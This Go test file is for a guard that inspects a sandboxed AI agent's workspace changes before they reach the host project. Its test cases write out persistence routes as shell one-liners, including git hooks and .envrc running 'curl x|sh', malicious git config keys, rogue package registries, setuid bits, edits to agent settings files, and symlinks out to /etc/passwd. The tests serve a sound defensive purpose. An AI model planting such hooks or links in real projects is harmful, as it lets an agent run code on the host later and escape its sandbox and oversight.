package workspace

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestPersistenceVectors plants each way an agent could leave code for the host to run later, and
// checks that Apply refuses it (listing the path and a reason) and that IncludeRisky does carry
// it, which shows the refusal is the guard's doing and not an accident of the scenario.
func TestPersistenceVectors(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, script string
		path, rule   string
		// plant, when set, writes into the upper layer directly: what an agent with more privilege
		// than ours (a device node needs CAP_MKNOD on the host) would leave there.
		plant func(t *testing.T, upper string)
	}{
		{name: "git hook", script: `printf '#!/bin/sh\ncurl x|sh\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, path: ".git/hooks/pre-commit", rule: "git-hooks"},
		{name: "hooksPath", script: `git config core.hooksPath .h`, path: ".git/config", rule: "git-config"},
		{name: "fsmonitor", script: `git config core.fsmonitor ./x`, path: ".git/config", rule: "git-config"},
		{name: "sshCommand", script: `git config core.sshCommand 'sh -c x'`, path: ".git/config", rule: "git-config"},
		{name: "pager", script: `git config core.pager ./x`, path: ".git/config", rule: "git-config"},
		{name: "editor", script: `git config core.editor ./x`, path: ".git/config", rule: "git-config"},
		{name: "diff.external", script: `git config diff.external ./x`, path: ".git/config", rule: "git-config"},
		{name: "filter", script: `git config filter.f.smudge ./x`, path: ".git/config", rule: "git-config"},
		{name: "credential.helper", script: `git config credential.helper '!sh x'`, path: ".git/config", rule: "git-config"},
		{name: "include.path", script: `git config include.path ../x`, path: ".git/config", rule: "git-config"},
		{name: "includeIf", script: `git config 'includeIf.gitdir:/.path' ../x`, path: ".git/config", rule: "git-config"},
		{name: "shell alias", script: `git config alias.st '!sh x'`, path: ".git/config", rule: "git-config"},
		{name: "hand-written config", script: `printf '[core]\n\thooksPath = "/tmp/h" ; c\n' >> .git/config`, path: ".git/config", rule: "git-config"},
		{name: "gitattributes filter", script: `echo '*.go filter=evil' > .gitattributes`, path: ".gitattributes", rule: "gitattributes-driver"},
		{name: "gitattributes diff", script: `echo '*.go diff=evil' > src/.gitattributes`, path: "src/.gitattributes", rule: "gitattributes-driver"},
		{name: "gitattributes merge macro", script: `echo '[attr]m merge=evil' > .gitattributes`, path: ".gitattributes", rule: "gitattributes-driver"},
		{name: "gitmodules", script: `printf '[submodule "s"]\n\tpath = s\n\tupdate = !sh x\n' > .gitmodules`, path: ".gitmodules", rule: "gitmodules"},
		{name: "envrc", script: `echo 'curl x | sh' > .envrc`, path: ".envrc", rule: "direnv"},
		{name: "vscode tasks", script: `mkdir .vscode && echo '{}' > .vscode/tasks.json`, path: ".vscode/tasks.json", rule: "vscode-tasks"},
		{name: "vscode settings", script: `mkdir .vscode && echo '{}' > .vscode/settings.json`, path: ".vscode/settings.json", rule: "vscode-settings"},
		{name: "devcontainer", script: `mkdir .devcontainer && echo '{}' > .devcontainer/devcontainer.json`, path: ".devcontainer/devcontainer.json", rule: "devcontainer"},
		{name: "claude settings", script: `mkdir .claude && echo '{}' > .claude/settings.json`, path: ".claude/settings.json", rule: "claude-settings"},
		{name: "claude local settings", script: `mkdir .claude && echo '{}' > .claude/settings.local.json`, path: ".claude/settings.local.json", rule: "claude-settings"},
		{name: "mcp", script: `echo '{}' > .mcp.json`, path: ".mcp.json", rule: "mcp"},
		{name: "codex", script: `mkdir .codex && echo 'x' > .codex/config.toml`, path: ".codex/config.toml", rule: "codex"},
		{name: "npmrc", script: `echo 'registry=https://npm.evil.test/' > .npmrc`, path: ".npmrc", rule: "npmrc"},
		{name: "cargo config", script: `mkdir .cargo && printf '[build]\nrustc-wrapper = "./x"\n' > .cargo/config.toml`, path: ".cargo/config.toml", rule: "cargo-config"},
		{name: "venv pip.conf", script: `mkdir .venv && printf '[global]\nindex-url = https://pypi.evil.test/simple\n' > .venv/pip.conf`, path: ".venv/pip.conf", rule: "pip-conf"},
		{name: "maven extensions", script: `mkdir .mvn && echo '<extensions/>' > .mvn/extensions.xml`, path: ".mvn/extensions.xml", rule: "maven-config"},
		{name: "new executable bit", script: `chmod +x src/main.go`, path: "src/main.go", rule: "new-executable"},
		{name: "new executable file", script: `printf '#!/bin/sh\n' > tool && chmod 755 tool`, path: "tool", rule: "new-executable"},
		{name: "setuid", script: `chmod u+s script.sh`, path: "script.sh", rule: "setid"},
		{name: "setgid", script: `chmod g+s src/util.go`, path: "src/util.go", rule: "setid"},
		{name: "fifo", script: `mkfifo pipe`, path: "pipe", rule: "fifo"},
		{name: "nested repo hook", script: `git init -q sub && printf '#!/bin/sh\n' > sub/.git/hooks/post-checkout`, path: "sub/.git/hooks/post-checkout", rule: "git-hooks"},
		{name: "nested repo config", script: `git init -q sub && git -C sub config core.fsmonitor ./x`, path: "sub/.git/config", rule: "git-config"},
		{name: "gitdir file", script: `mkdir sub && echo 'gitdir: /tmp/evil' > sub/.git`, path: "sub/.git", rule: "gitdir-link"},
		{name: "device", path: "dev", rule: "device", plant: func(t *testing.T, upper string) {
			if err := unix.Mknod(filepath.Join(upper, "dev"), unix.S_IFCHR|0o600, int(unix.Mkdev(1, 3))); err != nil {
				t.Skipf("cannot create a device node here: %v", err)
			}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := newProject(t)
			r := testRun(t, p)
			ws := prepare(t, r, p, PrepareOptions{})
			script := tc.script
			if script == "" {
				script = "true"
			}
			view := agent(t, ws, script)
			if tc.plant != nil {
				tc.plant(t, ws.Overlay.Upper)
			}
			exited(t, r)
			risks, err := Guard(r)
			if err != nil {
				t.Fatal(err)
			}
			if !hasRisk(risks, tc.path, tc.rule) {
				t.Fatalf("Guard did not flag %s (%s); got %v", tc.path, tc.rule, risks)
			}
			before := tree(t, p, nil)
			_, err = Apply(r, ApplyOptions{})
			var re *RiskError
			if !errors.As(err, &re) || !hasRisk(re.Risks, tc.path, tc.rule) {
				t.Fatalf("Apply error = %v, want a RiskError naming %s", err, tc.path)
			}
			if !strings.Contains(err.Error(), tc.path) {
				t.Errorf("error does not name the path: %v", err)
			}
			sameTree(t, "project after refused apply", tree(t, p, nil), before)

			rep, err := Apply(r, ApplyOptions{IncludeRisky: true})
			if err != nil {
				t.Fatalf("Apply with IncludeRisky: %v", err)
			}
			if !hasRisk(rep.Risky, tc.path, tc.rule) {
				t.Errorf("report does not list the risky change it carried: %v", rep.Risky)
			}
			if tc.plant == nil {
				sameTree(t, "risky apply vs agent's view", tree(t, p, nil), tree(t, view, nil))
			} else if _, err := os.Lstat(filepath.Join(p, tc.path)); err != nil {
				t.Errorf("IncludeRisky did not carry %s: %v", tc.path, err)
			}
		})
	}
}

func hasRisk(rs []Risk, path, rule string) bool {
	return slices.ContainsFunc(rs, func(r Risk) bool { return r.Path == path && r.Rule == rule })
}

// TestBenignNotFlagged keeps the guard usable: ordinary agent work, including commits, is carried
// without --include-risky.
func TestBenignNotFlagged(t *testing.T) {
	t.Parallel()
	p := newProject(t)
	r := testRun(t, p)
	ws := prepare(t, r, p, PrepareOptions{})
	view := agent(t, ws, `
printf 'more\n' >> src/main.go
git add -A && git commit -qm agent
git config user.name Agent
echo '*.png binary' > .gitattributes
echo '*.go diff=golang' >> .gitattributes
chmod -x script.sh
mkdir -p .vscode && echo '{}' > .vscode/README.md
`)
	exited(t, r)
	risks, err := Guard(r)
	if err != nil {
		t.Fatal(err)
	}
	if len(risks) != 0 {
		t.Fatalf("benign changes flagged: %v", risks)
	}
	if _, err := Apply(r, ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	sameTree(t, "after apply", tree(t, p, nil), tree(t, view, nil))
	sh(t, p, "git fsck --no-progress 2>/dev/null && git log --oneline | grep -q agent")
}

func TestSymlinksOutsideNeverApplied(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, script, path string }{
		{"absolute", `ln -s /etc/passwd evil`, "evil"},
		{"climbing", `ln -s ../../../../../../etc src/up`, "src/up"},
		{"through an inside link", `mkdir -p a && ln -s / a/root && ln -s a/root/etc via`, "via"},
		{"dotdot after a link", `ln -s /tmp t && ln -s t/.. back`, "back"},
		{"absolute into project then out", `ln -s "$PWD/../.." abs`, "abs"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := newProject(t)
			r := testRun(t, p)
			ws := prepare(t, r, p, PrepareOptions{})
			agent(t, ws, tc.script+"\nln -s src/main.go fine && ln -s \"$PWD/README.md\" fine-abs")
			exited(t, r)
			before := tree(t, p, nil)
			_, err := Apply(r, ApplyOptions{IncludeRisky: true})
			var re *RiskError
			if !errors.As(err, &re) || !slices.ContainsFunc(re.Risks, func(r Risk) bool { return r.Path == tc.path && r.Never }) {
				t.Fatalf("Apply(IncludeRisky) = %v; want %s refused for good", err, tc.path)
			}
			for _, ok := range []string{"fine", "fine-abs"} {
				if slices.ContainsFunc(re.Risks, func(r Risk) bool { return r.Path == ok }) {
					t.Errorf("%s points inside the project but was refused", ok)
				}
			}
			sameTree(t, "project after refused apply", tree(t, p, nil), before)

			// Without the guard, the link would be created and lead out of the project.
			info, _ := LoadInfo(r)
			cs, _ := Changes(r)
			if err := commitChanges(r, info, cs, ApplyOptions{}); err != nil {
				t.Fatal(err)
			}
			if _, err := os.Lstat(filepath.Join(p, tc.path)); err != nil {
				t.Fatalf("the attack does not work even without the guard: %v", err)
			}
		})
	}
}

func TestGlobMatch(t *testing.T) {
	for _, tc := range []struct {
		glob, path string
		want       bool
	}{
		{"**/.envrc", ".envrc", true},
		{"**/.envrc", "a/b/.envrc", true},
		{"**/.envrc", "a/.envrc/x", false},
		{"**/.devcontainer/**", ".devcontainer/x/y.json", true},
		{"**/.claude/settings*.json", "x/.claude/settings.local.json", true},
		{"**/.claude/settings*.json", ".claude/other.json", false},
	} {
		if got := globMatch(tc.glob, tc.path); got != tc.want {
			t.Errorf("globMatch(%q, %q) = %v", tc.glob, tc.path, got)
		}
	}
}
